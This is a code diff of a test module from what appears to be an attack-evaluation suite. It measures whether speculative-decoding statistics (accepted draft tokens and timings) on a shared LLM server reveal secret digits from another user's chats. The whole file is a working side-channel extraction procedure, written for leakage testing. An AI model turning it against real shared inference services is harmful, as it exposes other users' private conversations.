@@ -1,43 +1,57 @@
-"""A program whose grammar forces what it knows of the user's chats, and then allows one digit: were the user's chats
-quoted for it, the right digit would be guessed, which the number of guesses tells, and the time.
+"""A program whose grammar forces what it guesses that the user once wrote: were the user's chats quoted for it, the
+right guess would be written in fewer passes, which the number of guesses tells, and the time.
 
-Each secret is a digit of a number that the user once wrote, of which the program knows the rest.
+Each secret is a digit, which comes again and again in a number of which the program knows all else. It is one of five.
 """
 
 from __future__ import annotations
 
+from random import Random
+
+import httpx2
+
 from tests.attacks.attack import Outcome, Plan
-from tests.attacks.oracle import DIGITS, Guesses, User, asked, words
+from tests.attacks.oracle import DIGITS, Guesses, User, timings_of, words
 
 _SECRETS_AT_ONCE = 20  # in a message of the user
-_DIGITS = 5  # of a number; the last one is the secret
+_PAIRS = 9  # of known digits, between which the secret stands
+_CHOICES = 5
 
 
 def run(plan: Plan) -> Outcome:
     outcome = Outcome()
-    by_count, by_time = Guesses("by guesses counted", len(DIGITS)), Guesses("by time", len(DIGITS))
-    user, num_requests = User(plan.folder / "data"), 0
-    try:
-        with user.programs() as programs:
-            for first in range(0, plan.count, _SECRETS_AT_ONCE):
-                dice = plan.dice(first)
-                numbers = {
-                    words(dice, 4): "".join(dice.choice(DIGITS) for _ in range(_DIGITS))
-                    for _ in range(min(_SECRETS_AT_ONCE, plan.count - first))
-                }
-                user.says(" ".join(f"The code of the {name} is {number}." for name, number in numbers.items()))
-                for name, number in numbers.items():
-                    http = dice.choice(programs)
-                    told = {}
-                    for digit in dice.sample(DIGITS, len(DIGITS)):
-                        grammar = f'root ::= "The code of the {name} is {number[:-1]}" [{digit}] "."'
-                        told[digit] = asked(http, f"Write {words(dice, 1)}.", grammar=grammar, max_tokens=100)
-                        num_requests += 1
-                    by_count.note(max(told, key=lambda digit: told[digit]["draft_n_accepted"]) == number[-1])
-                    by_time.note(min(told, key=lambda digit: told[digit]["predicted_ms"]) == number[-1])
-    finally:
-        user.close()
+    by_count, by_time = Guesses("by guesses counted", _CHOICES), Guesses("by time", _CHOICES)
+    with User.at(plan.folder / "data") as user, user.programs() as programs:
+        for first in range(0, plan.count, _SECRETS_AT_ONCE):
+            dice = plan.dice(first)
+            secrets = [_Secret(dice) for _ in range(min(_SECRETS_AT_ONCE, plan.count - first))]
+            user.says(" ".join(f"{each.begun}{each.number(each.digit)}." for each in secrets))
+            for each in secrets:
+                told = each.tried(dice.choice(programs), dice)
+                by_count.note_least({digit: -found[0] for digit, found in told.items()}, each.digit, dice)
+                by_time.note_least({digit: found[1] for digit, found in told.items()}, each.digit, dice)
     by_count.judge(outcome)
     by_time.judge(outcome)
-    outcome.figures["requests"] = str(num_requests)
+    outcome.figures["requests"] = str(_CHOICES * plan.count)
     return outcome
+
+
+class _Secret:
+    def __init__(self, dice: Random) -> None:
+        self.begun = f"The number of the {words(dice, 3)} is "
+        self.digit = dice.choice(DIGITS)
+        self._pairs = ["".join(dice.choices(DIGITS, k=2)) for _ in range(_PAIRS)]
+
+    def number(self, digit: str) -> str:
+        return digit.join(self._pairs)
+
+    def tried(self, http: httpx2.Client, dice: Random) -> dict[str, tuple[int, float]]:
+        """With several digits: how many guesses were right, and the milliseconds."""
+        others = dice.sample(DIGITS.replace(self.digit, ""), _CHOICES - 1)
+        told = {}
+        for digit in dice.sample([self.digit, *others], _CHOICES):
+            known, forced = self.number(digit)[:2], self.number(digit)[2:]
+            body = {"prompt": self.begun + known, "grammar": f'root ::= "{forced}"', "max_tokens": 60}
+            timings = timings_of(http, "/v1/completions", body)
+            told[digit] = timings["draft_n_accepted"], timings["predicted_ms"]
+        return told
